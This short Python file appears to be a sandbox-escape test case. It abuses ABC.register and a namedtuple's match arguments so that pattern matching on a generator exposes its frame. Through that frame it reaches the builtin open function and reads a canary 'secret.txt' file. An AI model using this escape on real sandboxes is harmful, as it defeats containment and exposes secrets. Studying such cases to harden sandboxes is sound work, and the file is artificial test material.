# x10_register_positional [escape]: a namedtuple's __match_args__ and ABC.register of the generator type
from abc import ABC
from collections import namedtuple


class Y(namedtuple("Y", "gi_frame"), ABC):
    pass


def solver(n1, n2):
    def g():
        yield 1

    x = g()
    Y.register(type(x))
    match x:
        case Y(f):
            return f.f_builtins["open"]("@CANARY@/secret.txt").read()
